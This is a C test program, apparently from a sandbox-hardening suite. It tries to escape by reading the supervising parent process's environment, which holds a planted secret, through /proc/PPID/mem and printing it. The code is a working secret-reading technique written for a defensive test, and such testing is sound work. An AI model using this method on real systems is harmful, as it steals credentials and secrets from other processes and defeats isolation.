// attack: proc_parent_mem
// round: 1 - same goal as ptrace_parent, through /proc/PPID/mem instead of ptrace
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// evidence: the supervisor's environment (holding the planted secret) is read through /proc/PPID/mem and printed
// escaped-if: secret_leaked
#include "attack.h"

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	pid_t pp = getppid();
	char p[64], buf[4096];
	snprintf(p, sizeof p, "/proc/%d/stat", pp);
	int fd = open(p, O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	if (n <= 0) {
		say("stat: %s\n", strerror(errno));
		return 1;
	}
	buf[n] = 0;
	char *s = strrchr(buf, ')');
	unsigned long a = 0, e = 0;
	int f = 3;
	for (char *t = strtok(s + 2, " "); t; t = strtok(NULL, " "), f++) {
		if (f == 50)
			a = strtoul(t, NULL, 10);
		if (f == 51)
			e = strtoul(t, NULL, 10);
	}
	snprintf(p, sizeof p, "/proc/%d/mem", pp);
	int m = open(p, O_RDONLY);
	if (m < 0) {
		say("open %s: %s\n", p, strerror(errno));
		return 1;
	}
	if (!a || e <= a || e - a > (1 << 20)) {
		say("no env range (%lx-%lx)\n", a, e);
		return 1;
	}
	char *env = malloc(e - a);
	ssize_t r = pread(m, env, e - a, a);
	if (r <= 0) {
		say("pread: %s\n", strerror(errno));
		return 1;
	}
	for (ssize_t i = 0; i < r; i++)
		if (!env[i])
			env[i] = '\n';
	if (write(1, env, r) < 0) {}
	return 0;
}
